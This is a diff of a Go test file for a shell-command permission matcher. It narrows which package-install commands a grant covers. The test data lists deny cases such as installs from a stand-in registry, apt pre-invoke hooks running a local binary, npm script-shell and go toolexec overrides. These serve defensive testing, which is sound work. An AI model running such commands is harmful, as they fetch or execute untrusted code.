@@ -39,7 +39,7 @@ func TestReach(t *testing.T) {
 		"git push -u --tags origin main": "exec git push origin --tags -u", "git push origin main --tags -u": "exec git push origin --tags -u",
 		"git push -o ci.skip origin main": "exec git push origin -o ci.skip", "git push --signed origin main -q -q": "exec git push main --signed origin -q", "git push git@h:a/b main": "exec git push git@h:a/b (with h)",
 		"git commit -am 'a text'": "exec git commit -am", "git commit -m -s": "exec git commit -m -s", "gh pr create --title 'A b' --body c -B dev": "exec gh pr create --body --title -B dev",
-		"npm publish --tag x": "", "npm run deploy": "", "npm install -D lodash @types/node@20": "exec npm install -D", "npm i ./x y": "",
+		"npm publish --tag x": "", "npm run deploy": "", "npm install -D lodash @types/node@20": "exec npm install @types/node@20 lodash -D", "npm i ./x y": "",
 		"aws s3 cp a b": "exec aws s3 cp", "gcloud compute instances list": "exec gcloud compute instances list (exactly)", "kubectl get pods": "exec kubectl get pods", "cp a /tmp/b": "exec cp (in /tmp)", "cp a /srv/b": "exec cp (/srv/)", "rsync -a a/ h:x": "exec rsync -a (with h)", "rsync -a a/ b/": "exec rsync -a", "kubectl label pods x env=prod": "exec kubectl label env=prod",
 		"curl -sS -X POST https://x.org/y": "exec curl -X POST -sS (with x.org)", "rm x": "exec rm", "rm -- x -v": "exec rm -- -v", "chmod +x a b": "exec chmod +x", "tar xzf a.tgz -C /srv": "exec tar xzf -C /srv (/srv)", "make deploy": "",
 		"systemctl restart nginx": "exec systemctl restart nginx", "docker stop -t 10 web": "exec docker stop web -t 10", "frob (on)": "",
@@ -304,11 +304,11 @@ var coverings = []struct {
 	{"ip link set x up", nil, list("ip link set y up | ip link set x xdp obj ./evil.o | ip link set x down")},
 
 	// Packages of a registry are operands; what could be a file or an address is not.
-	{"pip install x", list("pip install y z==1.2 'w[extra]' | pip install x"), list("pip install ./evil | pip install . | pip install evil.whl | pip install git+https://x.org/y | pip install -e evil | pip install -r r.txt | pip install -i https://evil.example x | pip install 'x @ https://evil.example' | pip3 install x")},
-	{"npm install lodash", list("npm install express@4.18 @types/node"), list("npm install -g lodash | npm install -D lodash | npm install ./evil | npm install user/evil | npm install evil.tgz | npm install x@npm:evil | npm install x@file:evil | npm install --script-shell=./evil | npm install --registry https://evil.example x | npm install --registry=https://evil.example x")},
-	{"npm install -D lodash", list("npm install express -D"), list("npm install lodash | npm install --save-dev lodash")},
-	{"apt install x", list("apt install y"), list("apt install ./evil.deb | apt install -o DPkg::Pre-Invoke::=./evil x | apt install -oDPkg::Pre-Invoke::=./evil x | apt remove x")},
-	{"cargo install x", list("cargo install y"), list("cargo install --path ./evil | cargo install --git https://evil.example x | cargo install --config ./evil x")},
+	{"pip install x", list("pip install x"), list("pip install y z==1.2 'w[extra]' | pip install ./evil | pip install . | pip install evil.whl | pip install git+https://x.org/y | pip install -e evil | pip install -r r.txt | pip install -i https://evil.example x | pip install 'x @ https://evil.example' | pip3 install x")},
+	{"npm install lodash", list("npm install lodash"), list("npm install express@4.18 @types/node | npm install -g lodash | npm install -D lodash | npm install ./evil | npm install user/evil | npm install evil.tgz | npm install x@npm:evil | npm install x@file:evil | npm install --script-shell=./evil | npm install --registry https://evil.example x | npm install --registry=https://evil.example x")},
+	{"npm install -D lodash", list("npm install lodash -D"), list("npm install express -D | npm install lodash | npm install --save-dev lodash")},
+	{"apt install x", list("apt install x"), list("apt install y | apt install ./evil.deb | apt install -o DPkg::Pre-Invoke::=./evil x | apt install -oDPkg::Pre-Invoke::=./evil x | apt remove x")},
+	{"cargo install x", list("cargo install x"), list("cargo install y | cargo install --path ./evil | cargo install --git https://evil.example x | cargo install --config ./evil x")},
 	{"go get x.org/y", nil, list("go get -toolexec ./evil x.org/y | go get -C /elsewhere x.org/y | go install ./evil | go get -modfile=evil x.org/y")},
 
 	// What an operand says may run is granted word for word.
@@ -319,7 +319,7 @@ var coverings = []struct {
 	{"just deploy", nil, list("just deploy -f /tmp/evil | just other")},
 	{"gradle build", nil, list("gradle build publish | gradle build -I evil.gradle")},
 	{"docker build -t x .", nil, list("docker build -t x /evil | docker build -t x -f evil . | docker build .")},
-	{"docker push x", list("docker push y"), list("docker push --all-tags x")},
+	{"docker push x", list("docker push x"), list("docker push y | docker push --all-tags x")},
 	{"docker cp a:b c", list("docker cp d:e f"), list("docker cp -L a:b c")},
 	{"docker stop web", list("docker stop web"), list("docker stop db | docker stop -t 1 web | docker rm web | docker exec web evil | docker -H evil stop web")},
 	{"kubectl get pods", list("kubectl get pods x"), list("kubectl get secrets | kubectl get --kubeconfig=./evil pods | kubectl get pods --kubeconfig ./evil | kubectl get pods -o yaml | kubectl get pods -A | kubectl get pods -n prod | kubectl get pods -- x")},
